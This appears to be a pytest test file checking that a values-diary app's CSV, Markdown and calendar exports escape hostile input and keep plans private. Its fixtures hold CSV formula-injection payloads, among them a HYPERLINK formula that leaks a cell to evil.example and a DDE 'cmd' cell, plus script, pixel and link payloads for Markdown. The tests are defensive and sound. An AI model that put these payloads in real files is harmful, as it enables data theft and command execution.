"""Hostile words in safe files: no CSV cell is a formula, no Markdown line changes the document, and a
calendar names the value and the plan only when asked, keeps its event ids and cancels what is gone."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from icalendar import Calendar
from markdown_it import MarkdownIt
from sample_diary import START, add_sample_experiment
from sqlalchemy import select

from valuesdesk import exports
from valuesdesk.errors import NothingToExport
from valuesdesk.store.models import Experiment, ExperimentTombstone, Value


@pytest.fixture(autouse=True)
def _after_the_written_days(clock) -> None:
    """Every day these tests write about has come (a day to come cannot be written)."""
    clock.set(START + dt.timedelta(days=60))


# Cells a spreadsheet would run, each as the person may write it (OWASP's list of first characters).
FORMULAS = (
    "=1+1",
    "=)",
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click for help")',
    "+1 more today",
    "-3 degrees outside",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tindented with a tab",
    "\rcarriage return first",
)
# Written as is: a formula character later in the cell does nothing.
PLAIN = ("a = b", "Felt 100% + proud", "'quoted'", "")


def csv_rows(services, experiment_id: int) -> list[list[str]]:
    data = exports.prepare(services, exports.format_by_key("csv"), exports.Selection(experiment_id)).data
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_csv_cells_a_spreadsheet_would_run_begin_with_an_apostrophe(services) -> None:
    experiment_id = add_sample_experiment(services, value_name="=cmd|' /C calc'!A0")
    for offset, text in enumerate(FORMULAS + PLAIN):
        services.diary.save_entry(experiment_id, START + dt.timedelta(days=offset), notes=text, evaluations="ok")

    header, *rows = csv_rows(services, experiment_id)
    notes = [row[header.index("Notes")] for row in rows]
    assert notes == ["'" + text for text in FORMULAS] + list(PLAIN)
    assert {row[header.index("Value")] for row in rows} == {"'=cmd|' /C calc'!A0"}
    starts = {cell[:1] for row in rows for cell in row}
    assert not starts & {"=", "+", "-", "@", "\t", "\r"}


# Text that means something to Markdown, one case each; none may change the document around it.
HOSTILE = {
    "heading": "# Not a heading",
    "heading closed": "Not ## a heading ##",
    "setext equals": "Not a heading\n===",
    "setext dashes": "Not a heading\n---",
    "rule": "***",
    "rule spaced": "- - -",
    "rule underscores": "___",
    "bullet": "- not a list",
    "star bullet": "* not a list",
    "plus bullet": "+ not a list",
    "numbered": "1. not numbered",
    "numbered parenthesis": "3) not numbered",
    "quote": "> not a quote",
    "indented": "first line\n    not code\n\tnor this",
    "fence": "```\nan unclosed fence",
    "tilde fence": "~~~ python\nan unclosed fence",
    "script": "<script>alert(1)</script>",
    "comment": "<!-- an unclosed comment",
    "html block": "<div>\nraw html",
    "html inline": "a <b>bold</b> <img src=https://evil.example/pixel.png> word",
    "link": "[not a link](https://evil.example)",
    "image": "![no image](https://evil.example/pixel.png)",
    "reference": "[ref]: https://evil.example",
    "autolink": "<https://evil.example>",
    "table": "| not | a table |\n|---|---|\n| c | d |",
    "emphasis": "*not* _emphasis_ **nor** __this__",
    "code": "`not code` ``nor this``",
    "strikethrough": "~~not struck~~",
    "entities": "&lt;b&gt; &#60;script&#62; &amp;",
    "backslashes": "a \\* and a trailing backslash\\",
    "trailing spaces": "two spaces  \nend here",
}
TOKENS_OF_THE_PERSONS_TEXT = {"text", "hardbreak"}


def parser() -> MarkdownIt:
    """CommonMark with raw HTML on, and GitHub's tables and strikethrough."""
    return MarkdownIt("commonmark").enable(["table", "strikethrough"])


def markdown_of(services, experiment_id: int) -> str:
    return exports.prepare(services, exports.format_by_key("md"), exports.Selection(experiment_id)).data.decode()


def notes_text(tokens) -> str:
    """The last day's Notes paragraph, as a reader sees it: its text, with its line breaks."""
    label = max(index for index, token in enumerate(tokens) if token.type == "inline" and token.content == "**Notes**")
    paragraph = tokens[label + 3]
    assert paragraph.type == "inline"
    assert {child.type for child in paragraph.children} <= TOKENS_OF_THE_PERSONS_TEXT
    return "".join("\n" if child.type == "hardbreak" else child.content for child in paragraph.children)


def block_structure(tokens) -> list[tuple[str, str]]:
    return [(token.type, token.tag) for token in tokens if token.type != "inline"]


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_markdown_keeps_the_persons_words_as_text_and_the_document_as_it_is(services, text) -> None:
    experiment_id = add_sample_experiment(services)
    later = START + dt.timedelta(days=5)
    services.diary.save_entry(experiment_id, later, notes="plain")
    plain_tokens = parser().parse(markdown_of(services, experiment_id))
    services.diary.save_entry(experiment_id, later, notes=text)
    services.diary.save_entry(experiment_id, later + dt.timedelta(days=1), evaluations="The day after.")

    document = markdown_of(services, experiment_id)
    tokens = parser().parse(document)
    # The same blocks as with plain words (one paragraph of notes), and the later day after it.
    structure = block_structure(tokens)
    assert structure[: len(block_structure(plain_tokens))] == block_structure(plain_tokens)
    headings = [tokens[index + 1].content for index, token in enumerate(tokens) if token.type == "heading_open"]
    assert headings[-2:] == ["Day 6 · Saturday 28 November 2026", "Day 7 · Sunday 29 November 2026"]
    assert tokens[-2].content == "The day after."
    # Read as written: each line as typed (without the spaces at its ends), each line break kept.
    written = "\n".join(line.strip() for line in text.splitlines())
    assert notes_text(tokens).replace("\u00a0", "") == written
    rendered = parser().render(document)
    for raw in ("<script", "<!--", "<img", "<a ", "<div", "<b>", "<pre", "<code", "<table", "<hr", "<blockquote"):
        assert raw not in rendered


def test_a_diary_of_hostile_days_has_one_heading_per_day_and_no_html(services) -> None:
    experiment_id = add_sample_experiment(services)
    days = [START + dt.timedelta(days=offset) for offset in range(len(HOSTILE))]
    for day, text in zip(days, HOSTILE.values(), strict=True):
        services.diary.save_entry(experiment_id, day, before=text, notes=text)

    document = markdown_of(services, experiment_id)
    tokens = parser().parse(document)
    headings = [
        (token.tag, tokens[index + 1].content) for index, token in enumerate(tokens) if token.type == "heading_open"
    ]
    # The title, the value, then one heading for each day, the last one too.
    assert [tag for tag, _text in headings] == ["h1", "h2"] + ["h3"] * len(days)
    assert headings[-1][1].startswith(f"Day {len(days)} ·")
    assert not {"html_block", "html_inline", "fence", "code_block", "hr", "blockquote_open"} & {
        token.type for token in tokens
    }
    assert notes_text(tokens) == HOSTILE["trailing spaces"].replace("  \n", "\n"), "the last day's words"


def test_a_value_name_is_its_heading_whole(services) -> None:
    experiment_id = add_sample_experiment(services, value_name="Courage, #1 ##")
    tokens = parser().parse(markdown_of(services, experiment_id))
    value = next(index for index, token in enumerate(tokens) if token.tag == "h2")
    assert "".join(child.content for child in tokens[value + 1].children) == "Courage, #1 ##"


def test_markdown_keeps_empty_lines_between_paragraphs_and_indentation_as_space(services) -> None:
    experiment_id = add_sample_experiment(services)
    services.diary.save_entry(experiment_id, START, notes="First.\n\n\n    Indented after an empty line.")
    tokens = parser().parse(markdown_of(services, experiment_id))
    assert "code_block" not in {token.type for token in tokens}
    notes = next(index for index, token in enumerate(tokens) if token.type == "inline" and token.content == "**Notes**")
    # The indentation is no-break spaces, which some renderers drop at a paragraph's start.
    paragraphs = [token.content.lstrip("\u00a0") for token in tokens[notes + 3 : notes + 8 : 3]]
    assert paragraphs == ["First.", "Indented after an empty line."]


def test_the_persons_line_breaks_are_line_breaks_in_the_rendered_page(services) -> None:
    experiment_id = add_sample_experiment(services)
    services.diary.save_entry(experiment_id, START, notes="One line\nand the next")
    assert "<p>One line<br />\nand the next</p>" in parser().render(markdown_of(services, experiment_id))


# The calendar


ALL_EXPERIMENTS = exports.Selection()


def ics(services, selection: exports.Selection = ALL_EXPERIMENTS) -> exports.PreparedExport:
    return exports.prepare(services, exports.format_by_key("ics"), selection)


def events_of(prepared: exports.PreparedExport) -> list:
    return Calendar.from_ical(prepared.data).walk("VEVENT")


@pytest.fixture
def planned(services) -> int:
    return add_sample_experiment(services)


def test_calendar_events_have_neutral_titles_unless_the_person_asks(services, planned) -> None:
    neutral = ics(services)
    assert sorted(str(event["summary"]) for event in events_of(neutral)) == [
        "Therapy session",
        "ValuesDesk check-in",
        "ValuesDesk check-in",
    ]
    assert all("description" not in event for event in events_of(neutral))
    unfolded = neutral.data.replace(b"\r\n ", b"").decode()
    for private in ("Connection with my family", "Call my sister", "Find her new number", "Daily Reactions Diary"):
        assert private not in unfolded
    assert neutral.suggested_name == "Values plan - 2026-11-23.ics"

    detailed = ics(services, exports.Selection(calendar_details=True))
    assert "Enact my value: Connection with my family" in {str(event["summary"]) for event in events_of(detailed)}
    assert detailed.suggested_name == "Values plan - Connection with my family - 2026-11-23.ics"
    assert sorted(event["uid"] for event in events_of(detailed)) == sorted(event["uid"] for event in events_of(neutral))


def test_a_renamed_value_keeps_the_event_ids(services, planned) -> None:
    before = {str(event["uid"]): event.decoded("dtstart") for event in events_of(ics(services))}
    with services.database.reading() as session:
        value_id = session.get(Experiment, planned).value_id
    services.values.update(value_id, name="Family, renamed", meaning="", life_domain="")
    services.experiments.update(planned, plan="Another plan altogether.")

    after = events_of(ics(services, exports.Selection(calendar_details=True)))
    assert {str(event["uid"]): event.decoded("dtstart") for event in after} == before
    assert "Enact my value: Family, renamed" in {str(event["summary"]) for event in after}


def test_the_events_of_an_abandoned_experiment_are_cancelled(services, planned) -> None:
    other = add_sample_experiment(services, value_name="Courage")
    services.experiments.abandon(planned)
    events = events_of(ics(services))
    cancelled = {str(event["uid"]) for event in events if event.get("status") == "CANCELLED"}
    assert cancelled == {str(event["uid"]) for event in events_of(ics(services, exports.Selection(planned)))}
    assert len(cancelled) == 3
    assert not any("status" in event for event in events_of(ics(services, exports.Selection(other))))


def test_a_deleted_experiments_events_are_cancelled_under_the_same_ids(services, planned) -> None:
    kept = add_sample_experiment(services, value_name="Courage")
    before = {str(event["uid"]): event for event in events_of(ics(services, exports.Selection(planned)))}
    services.experiments.delete(planned)

    prepared = ics(services, exports.Selection(calendar_details=True))
    events = {str(event["uid"]): event for event in events_of(prepared)}
    assert {uid: event["status"] for uid, event in events.items() if uid in before} == dict.fromkeys(
        before, "CANCELLED"
    )
    for uid, event in before.items():
        assert events[uid].decoded("dtstart") == event.decoded("dtstart")
        assert events[uid].get("rrule") == event.get("rrule")
    assert len(events) == len(before) + 3, "the kept experiment's events are there as they were"
    assert b"Connection with my family" not in prepared.data.replace(b"\r\n ", b"")
    assert not any("status" in event for event in events_of(ics(services, exports.Selection(kept))))


def test_a_calendar_of_only_deleted_experiments_still_cancels_their_events(services, planned) -> None:
    services.experiments.delete(planned)
    events = events_of(ics(services))
    assert [str(event["status"]) for event in events] == ["CANCELLED"] * 3
    # Days that the deleted experiment never had: nothing to export.
    with pytest.raises(NothingToExport, match="There is no diary to export"):
        ics(services, exports.Selection(first=dt.date(2026, 1, 1), last=dt.date(2026, 1, 31)))


def test_a_new_experiment_that_reuses_a_deleted_id_has_its_own_event_ids(services, planned, clock) -> None:
    deleted = {str(event["uid"]) for event in events_of(ics(services))}
    services.experiments.delete(planned)
    clock.advance(dt.timedelta(minutes=1))
    again = add_sample_experiment(services)
    assert again == planned, "SQLite gives the freed id to the next row"
    live = {str(event["uid"]) for event in events_of(ics(services, exports.Selection(again)))}
    assert len(live) == 3 and not live & deleted


def test_only_the_days_of_a_deleted_experiment_are_kept(services, planned) -> None:
    services.experiments.delete(planned)
    with services.database.reading() as session:
        [tombstone] = session.scalars(select(ExperimentTombstone))
        assert session.scalars(select(Value)).all(), "the value is the person's, not the experiment's"
        kept = {column.name: getattr(tombstone, column.name) for column in ExperimentTombstone.__table__.columns}
    assert kept.pop("id") and kept.pop("experiment_created_at") and kept.pop("deleted_at")
    assert kept == {
        "experiment_id": planned,
        "start_date": START,
        "duration_days": 7,
        "plan_at": dt.datetime(2026, 11, 23, 19, 30),
        "checkin_time": dt.time(21, 0),
        "next_session_date": dt.date(2026, 12, 1),
    }
